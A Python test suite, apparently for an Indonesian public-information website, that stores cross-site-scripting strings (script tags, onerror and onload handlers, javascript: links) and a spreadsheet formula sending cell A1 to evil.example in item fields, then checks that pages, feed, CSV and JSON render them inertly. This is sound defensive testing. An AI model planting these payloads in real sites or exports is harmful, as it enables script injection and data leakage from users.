"""What staff type reaches the public as text, never as markup or a formula: a summary, a unit's
name, the person responsible, the place made, the retention, a file's name and the elements of a
serta merta announcement holding HTML, `</script>`, quotes, `javascript:` and a spreadsheet
formula are escaped on every page, parse as text in the feed, are prefixed in the CSV and are
plain strings in the JSON."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from xml.etree import ElementTree

import httpx

from bot.onboarding import rename_unit
from bot.register import edit_item
from tests.bot.cycle_helpers import ADMIN_ID, Office
from tests.samples import make_docx
from tests.web.publishing import publish_cycle, publish_serta_merta

MARKUP = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>"
SUMMARY = f"Laporan {MARKUP} Aset"
UNIT = f"Dinas </title><script>alert(3)</script> Sosial"
RESPONSIBLE = "javascript:alert(4)"
PLACE = "\"><svg onload=alert(5)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
FILE_NAME = "\"><script>alert(6)<\\script>.docx"
ELEMENTS = tuple(f"Unsur {number} </script><script>alert({number})</script> javascript:alert(1)" for number in range(1, 9))
ATOM = "{http://www.w3.org/2005/Atom}"


class _Markup(HTMLParser):
    """Whatever in a page would run: script elements, `on...` attributes, `javascript:` links."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.dangers: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "svg", "img", "iframe", "object", "embed"):
            self.dangers.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.dangers.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


async def _hostile_register(office: Office) -> int:
    await publish_serta_merta(office, "Peringatan Banjir Kota", answers=ELEMENTS)
    item_id = await office.add_item("Sementara")
    for name, value in (("summary", SUMMARY), ("responsible", RESPONSIBLE), ("made_time_place", PLACE), ("retention", FORMULA)):
        await edit_item(office.services, ADMIN_ID, item_id, name, value)
    await publish_cycle(office, item_id, [(FILE_NAME, make_docx(), "docx")])
    await rename_unit(office.services, ADMIN_ID, office.unit_id, UNIT)
    return item_id


async def test_typed_texts_are_text_on_every_page(office: Office, site: httpx.AsyncClient) -> None:
    item_id = await _hostile_register(office)
    serta_merta = int(await office.db_value("SELECT id FROM info_items WHERE summary = 'Peringatan Banjir Kota'"))
    for path in ("/", "/dip/", f"/dip/?unit={office.unit_id}", f"/informasi/{item_id}/", f"/informasi/{serta_merta}/", "/cari/?q=laporan aset"):
        for prefix in ("", "/en"):
            response = await site.get(prefix + path)
            assert response.status_code == 200, path
            reader = _Markup()
            reader.feed(response.text)
            assert reader.dangers == [], (path, reader.dangers)
            shown = "".join(reader.text)
            assert SUMMARY in shown or ELEMENTS[0] in shown, path  # there, as text
    page = _Markup()
    page.feed((await site.get(f"/informasi/{item_id}/")).text)
    shown = "".join(page.text)
    assert all(text in shown for text in (SUMMARY, UNIT, RESPONSIBLE, PLACE, FORMULA))
    serta_merta_page = _Markup()
    serta_merta_page.feed((await site.get(f"/informasi/{serta_merta}/")).text)
    assert all(element in "".join(serta_merta_page.text) for element in ELEMENTS)


async def test_a_hostile_file_name_is_a_safe_link_and_download_name(office: Office, site: httpx.AsyncClient) -> None:
    item_id = await _hostile_register(office)
    html = (await site.get(f"/informasi/{item_id}/")).text
    [link] = [part.split('"')[0] for part in html.split('href="')[1:] if "berkas/" in part.split('"')[0]]
    assert all(char not in link for char in "<>\"'\\ ")
    response = await site.get(f"/informasi/{item_id}/{link}")
    assert response.status_code == 200
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="') and disposition.count('"') == 2
    assert "<" not in disposition and "\\" not in disposition


async def test_the_feed_carries_typed_texts_as_text(office: Office, site: httpx.AsyncClient) -> None:
    await _hostile_register(office)
    feed = ElementTree.fromstring((await site.get("/feed.atom")).content)
    titles = [entry.findtext(f"{ATOM}title") for entry in feed.findall(f"{ATOM}entry")]
    summaries = [entry.findtext(f"{ATOM}summary") for entry in feed.findall(f"{ATOM}entry")]
    assert SUMMARY in titles and ELEMENTS[0] in summaries
    assert [element.tag for element in feed.iter() if "script" in element.tag.lower()] == []


async def test_the_open_data_keeps_formulas_from_running_and_texts_as_they_are(office: Office, site: httpx.AsyncClient) -> None:
    await _hostile_register(office)
    rows = list(csv.reader(io.StringIO((await site.get("/dip.csv")).text.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert SUMMARY in cells and UNIT in cells
    items = json.loads((await site.get("/dip.json")).text)["items"]
    values = [value for item in items for value in item.values()]
    assert SUMMARY in values and UNIT in values and FORMULA in values
